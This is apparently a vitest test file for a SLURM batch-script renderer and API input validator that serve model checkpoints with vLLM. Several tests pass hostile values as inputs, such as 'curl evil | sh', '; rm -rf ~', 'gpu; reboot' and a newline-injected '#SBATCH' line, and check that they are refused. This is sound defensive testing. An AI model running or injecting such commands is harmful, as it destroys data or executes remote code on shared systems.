import { execFileSync } from 'node:child_process';
import { chmodSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { useTempDir } from '../../../test-support/temp';
import { apiInputs } from '../../api/contract';
import { renderSbatchScript, servingKeyOf } from './sbatch-script';
import { SLURM_DEFAULTS, type SlurmSettings } from './slurm-settings';

describe('the batch script the SLURM backend submits', () => {
  const tempDir = useTempDir();
  const settings = (stateDir: string, more: Partial<SlurmSettings> = {}): SlurmSettings => ({
    ...SLURM_DEFAULTS,
    server: 'vllm',
    extraArgs: ['--tensor-parallel-size=2', "--chat-template=it's here"],
    partition: 'gpu',
    gpusPerJob: 2,
    time: '4:00:00',
    account: 'vision-lab',
    sbatchArgs: ['--qos=high', '--mem=64G'],
    setup: 'module load cuda/12.4\nexport SETUP_DONE=1',
    stateDir,
    ...more,
  });

  it('carries the options as #SBATCH lines, the setup, and the server command with the job\'s port', () => {
    const script = renderSbatchScript(settings('/shared/wb'), { name: 'stage2@200', path: '/shared/ckpt/stage 2' });
    const directives = script.split('\n').filter((line) => line.startsWith('#SBATCH'));
    expect(directives).toEqual([
      '#SBATCH --job-name=vlmwb-stage2_200',
      expect.stringMatching(/^#SBATCH --output=\/shared\/wb\/stage2_200-[0-9a-f]{16}-%j\.out$/),
      '#SBATCH --nodes=1',
      '#SBATCH --ntasks=1',
      '#SBATCH --no-requeue',
      '#SBATCH --partition=gpu',
      '#SBATCH --gpus-per-node=2',
      '#SBATCH --time=4:00:00',
      '#SBATCH --account=vision-lab',
      '#SBATCH --qos=high',
      '#SBATCH --mem=64G',
    ]);
    expect(script).toContain('module load cuda/12.4\nexport SETUP_DONE=1');
    expect(script).toContain(
      `'vllm' 'serve' '/shared/ckpt/stage 2' '--host' '0.0.0.0' '--port' "$PORT" '--served-model-name' 'stage2@200' '--tensor-parallel-size=2' '--chat-template=it'\\''s here' &`,
    );
    expect(renderSbatchScript(settings('/x', { gpusPerJob: 0 }), { name: 'a', path: '/a' })).not.toContain('--gpus-per-node');
  });

  it('refuses an #SBATCH option that would span lines', () => {
    expect(() => renderSbatchScript(settings('/x', { sbatchArgs: ['--qos=high\nrm -rf ~'] }), { name: 'a', path: '/a' })).toThrow(/cannot span lines/);
  });

  it('gives equal keys only to jobs that serve the same thing', () => {
    const base = settings('/x');
    const key = servingKeyOf(base, { name: 'a', path: '/a' });
    expect(servingKeyOf({ ...base, pollMs: 5 }, { name: 'a', path: '/a' })).toBe(key);
    expect(servingKeyOf({ ...base, gpusPerJob: 4 }, { name: 'a', path: '/a' })).not.toBe(key);
    expect(servingKeyOf(base, { name: 'a', path: '/b' })).not.toBe(key);
  });

  it('run by bash (as a compute node would), reports host and port and starts the server with our arguments', () => {
    const dir = tempDir();
    const server = join(dir, 'fake-server');
    // Stands in for vllm: records its argv and exits at once.
    writeFileSync(server, `#!/bin/sh\nprintf '%s\\n' "$@" > "${join(dir, 'argv')}"\necho "setup=$SETUP_DONE"\n`);
    chmodSync(server, 0o755);
    const script = join(dir, 'job.sbatch');
    writeFileSync(script, renderSbatchScript(settings(dir, { executable: server, setup: 'export SETUP_DONE=1' }), { name: 'ckpt', path: '/data/ckpt' }));
    const output = execFileSync('bash', [script], { env: { ...process.env, SLURM_JOB_ID: '4242' }, encoding: 'utf8', timeout: 20_000 });
    expect(output).toContain('setup=1');
    expect(output).toMatch(/\[workbench\] server exited with status 0/);
    const [host, port] = readFileSync(join(dir, 'job-4242.endpoint'), 'utf8').trim().split(' ');
    expect(host).toBeTruthy();
    expect(Number(port)).toBeGreaterThanOrEqual(24242);
    const argv = readFileSync(join(dir, 'argv'), 'utf8').trimEnd().split('\n');
    expect(argv).toEqual(['serve', '/data/ckpt', '--host', '0.0.0.0', '--port', port, '--served-model-name', 'ckpt', '--tensor-parallel-size=2', "--chat-template=it's here"]);
  });
});

describe('the API\'s slurm backend input', () => {
  const input = (backend: Record<string, unknown>) =>
    apiInputs.startEvaluation.safeParse({ benchmark: 'b', checkpoint: { name: 'c' }, backend: { kind: 'slurm', checkpointPath: '/c', ...backend } });

  it('takes scheduler options and fills in defaults', () => {
    const parsed = input({ partition: 'gpu', time: '1-0', sbatchArgs: ['--qos=high'] });
    expect(parsed.success).toBe(true);
    expect(parsed.data?.backend).toMatchObject({ kind: 'slurm', server: 'vllm', gpusPerJob: 1, jobsPerCheckpoint: 1 });
  });

  it('takes no shell from the renderer: no setup snippet, no option that is not a single sbatch option', () => {
    expect(input({ setup: 'curl evil | sh' }).success).toBe(false);
    expect(input({ sbatchArgs: ['--qos=high\n#SBATCH --wrap=x'] }).success).toBe(false);
    expect(input({ sbatchArgs: ['; rm -rf ~'] }).success).toBe(false);
    expect(input({ partition: 'gpu; reboot' }).success).toBe(false);
  });
});
